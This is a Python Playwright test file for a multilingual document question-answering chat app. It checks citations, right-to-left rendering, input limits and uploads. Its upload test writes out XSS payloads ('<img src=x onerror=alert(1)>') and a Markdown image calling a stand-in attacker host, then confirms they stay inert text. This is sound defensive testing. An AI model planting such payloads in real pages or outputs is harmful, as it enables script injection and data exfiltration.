"""The chat page in a real headless browser (Debian's chromium driven by Playwright).

Set QA_UPDATE_SCREENSHOT=1 to also copy the screenshot of the two-question chat to docs/screenshot.png.
"""

from __future__ import annotations

import os
import shutil
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, sync_playwright

import qa
from qa import ui

from conftest import CHROMIUM, CHROMIUM_ARGS, ROOT, free_port

LOOPBACK = {"127.0.0.1", "localhost", "::1", "[::1]"}
EN = "Why was Sora's release delayed?"
ZH = "Sora 可以生成多长的视频？"

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def app(seeded, engine, tmp_path_factory):
    """The real app on a free port, over a private copy of the seeded corpus and store (uploads write)."""
    base = tmp_path_factory.mktemp("browser")
    shutil.copytree(seeded.corpus_dir, base / "corpus")
    shutil.copytree(seeded.persist_dir, base / "store")
    settings = qa.Settings(corpus_dir=base / "corpus", persist_dir=base / "store", collection=seeded.collection,
                           mode="offline", port=free_port())
    app_engine = qa.QAEngine(settings, embed_model=engine.embed_model)
    demo = ui.build_app(app_engine, settings)
    _, url, _ = ui.launch(demo, settings, prevent_thread_lock=True, quiet=True)
    try:
        yield url, settings
    finally:
        demo.close()


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        try:
            yield b
        finally:
            b.close()


@pytest.fixture
def page(browser, app):
    """A fresh page on the app; afterwards, checks that it called nothing but the app and ran no injected code."""
    context = browser.new_context(viewport={"width": 1440, "height": 1000}, locale="en-US")
    page = context.new_page()
    hosts, dialogs, errors = set(), [], []
    page.on("request", lambda r: hosts.add(urlsplit(r.url).hostname or r.url.split(":")[0]))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(app[0])
    page.wait_for_selector("#qa-question textarea")
    page.wait_for_selector("#qa-status .qa-mode")
    yield page
    context.close()
    assert not dialogs, f"a document ran script in the page: {dialogs}"
    assert hosts <= LOOPBACK | {"data", "blob"}, f"the page called outside: {hosts - LOOPBACK}"
    assert not errors, errors


def ask(page: Page, question: str, turn: int) -> None:
    """Type a question, press Enter, and wait until the streamed answer is final and its sources are shown."""
    page.evaluate(
        """() => {
            window.__states = [];
            const chat = document.querySelector('#qa-chat');
            window.__obs && window.__obs.disconnect();
            window.__obs = new MutationObserver(() => {
                const answers = chat.querySelectorAll('.qa-answer');
                const last = answers[answers.length - 1];
                const text = last ? last.textContent : '';
                if (text && window.__states[window.__states.length - 1] !== text) window.__states.push(text);
            });
            window.__obs.observe(chat, {subtree: true, childList: true, characterData: true});
        }"""
    )
    page.fill("#qa-question textarea", question)
    page.keyboard.press("Enter")
    wait_answer(page, question, turn)


def wait_answer(page: Page, question: str, turn: int) -> None:
    page.wait_for_function(
        """([q, n]) => document.querySelectorAll('#qa-chat .qa-answer').length === n
            && !document.querySelector('#qa-chat .qa-typing')
            && (document.querySelector('#qa-sources-box .qa-sources-q') || {}).textContent?.includes(q)""",
        arg=[question, turn],
        timeout=90_000,
    )


def last_answer_markers(page: Page) -> list[int]:
    return page.eval_on_selector_all(
        "#qa-chat .qa-answer",
        "els => [...els[els.length - 1].querySelectorAll('.qa-cite')].map(e => +e.textContent.replace(/\\D/g, ''))",
    )


def source_cards(page: Page) -> list[dict]:
    return page.eval_on_selector_all(
        "#qa-sources-box .qa-source",
        """els => els.map(e => ({
            n: +e.dataset.n,
            title: e.querySelector('.qa-title').textContent,
            file: e.querySelector('.qa-file').textContent,
            lang: e.querySelector('.qa-lang').textContent,
            snippet: e.querySelector('.qa-snippet').textContent,
            snippetDir: e.querySelector('.qa-snippet').getAttribute('dir'),
            mark: (e.querySelector('.qa-passage mark') || {}).textContent || null,
            passageDir: (e.querySelector('.qa-passage') || {getAttribute: () => null}).getAttribute('dir'),
        }))""",
    )


def check_cited(page: Page) -> list[dict]:
    markers = last_answer_markers(page)
    cards = source_cards(page)
    assert markers, "the answer shows no citation marker"
    assert sorted(set(markers)) == [c["n"] for c in cards], (markers, cards)
    for c in cards:
        assert c["title"] and c["file"].endswith(".txt") and c["lang"] in {"en", "fr", "ar", "zh"}
        assert c["snippet"] and c["snippetDir"] == "auto" and c["passageDir"] == "auto"
        assert c["mark"] == c["snippet"], "the snippet is not highlighted in its passage"
    return cards


def test_new_user_asks_two_questions_and_reads_the_cited_snippets(page, app, tmp_path):
    status = page.inner_text("#qa-status")
    assert "offline extractive" in status and "5 documents" in status and "fr (3)" in status

    ask(page, EN, 1)
    check_cited(page)
    ask(page, ZH, 2)
    cards = check_cited(page)
    states = page.evaluate("window.__states")
    assert len(states) >= 2, f"the answer was not streamed: {states}"
    assert any(c["lang"] == "zh" for c in cards)
    assert page.locator("#qa-chat .qa-question").count() == 2

    shot = tmp_path / "chat.png"
    page.screenshot(path=str(shot), full_page=True)
    assert shot.stat().st_size > 50_000
    if os.environ.get("QA_UPDATE_SCREENSHOT"):
        (ROOT / "docs").mkdir(exist_ok=True)
        shutil.copy(shot, ROOT / "docs" / "screenshot.png")

    # Clicking the first answer brings its own sources back; "New chat" clears everything.
    page.locator("#qa-chat .qa-answer").first.click()
    page.wait_for_function(
        "q => document.querySelector('#qa-sources-box .qa-sources-q').textContent.includes(q)", arg=EN
    )
    page.click("#qa-new")
    page.wait_for_function("() => !document.querySelector('#qa-chat .qa-answer')")
    assert page.locator("#qa-sources-box .qa-source").count() == 0


def test_arabic_example_renders_right_to_left(page):
    page.locator("#qa-examples button").filter(has_text="الممثل").click()
    page.wait_for_function(
        """() => document.querySelectorAll('#qa-chat .qa-answer').length === 1
            && !document.querySelector('#qa-chat .qa-typing')
            && document.querySelector('#qa-sources-box .qa-sources-q')""",
        timeout=90_000,
    )
    question = page.locator("#qa-chat .qa-question").first
    assert question.evaluate("e => getComputedStyle(e).direction") == "rtl"
    assert question.get_attribute("dir") == "auto"
    cards = check_cited(page)
    for card in page.locator("#qa-sources-box .qa-snippet[lang=ar]").all():
        assert card.evaluate("e => getComputedStyle(e).direction") == "rtl"
    assert cards


def test_empty_and_long_questions_get_a_polite_notice(page, app):
    page.click("#qa-send")
    page.wait_for_selector("#qa-notice .qa-notice")
    assert "Sorry, I can't take this question: the question is empty" in page.inner_text("#qa-notice")
    page.fill("#qa-question textarea", "x" * (app[1].max_question_chars + 1))
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.querySelector('#qa-notice').innerText.includes('limit is')")
    assert page.locator("#qa-chat .qa-question").count() == 0  # nothing was added to the chat
    assert "Traceback" not in page.content()


def test_uploaded_document_is_answerable_and_its_markup_stays_text(page, app, tmp_path):
    bad = tmp_path / "photo.txt"
    bad.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    evil = tmp_path / "zorblax.txt"
    evil.write_text(
        "Zorblax festival report\n\n"
        "The Zorblax festival in Quentaria was attended by 4,200 lantern makers &lt;img src=x onerror=alert(1)&gt; "
        "this spring.\n"
        'The Zorblax lantern parade lasted exactly seven hours ![x](http://attacker/?q=1 "t") and ended at the '
        "harbour <img src=x onerror=alert(1)>.\n"
        "Visitors called the Zorblax fireworks **bold** and [bright](//attacker.example/x).\n",
        encoding="utf-8",
    )
    page.click("#qa-upload-box .label-wrap")
    page.set_input_files("#qa-files input[type=file]", [str(bad)])
    page.wait_for_function("() => document.querySelector('#qa-upload-result').innerText.includes('Rejected')")
    assert "the content is a PNG image, not text" in page.inner_text("#qa-upload-result")
    assert "5 documents" in page.inner_text("#qa-status")

    page.set_input_files("#qa-files input[type=file]", [str(evil)])
    page.wait_for_function("() => document.querySelector('#qa-upload-result').innerText.includes('Added')",
                           timeout=120_000)
    assert "6 documents" in page.inner_text("#qa-status")

    ask(page, "How long did the Zorblax lantern parade last?", 1)
    cards = check_cited(page)
    assert cards[0]["file"] == "uploads/zorblax.txt"
    answer = page.locator("#qa-chat .qa-answer").last.inner_text()
    assert '![x](http://attacker/?q=1 "t")' in answer  # Markdown shows as its characters
    sources = page.inner_text("#qa-sources-box")
    assert "<img src=x onerror=alert(1)>" in sources and "**bold**" in sources
    assert page.locator("#qa-chat img, #qa-sources-box img, #qa-chat strong, #qa-sources-box a").count() == 0
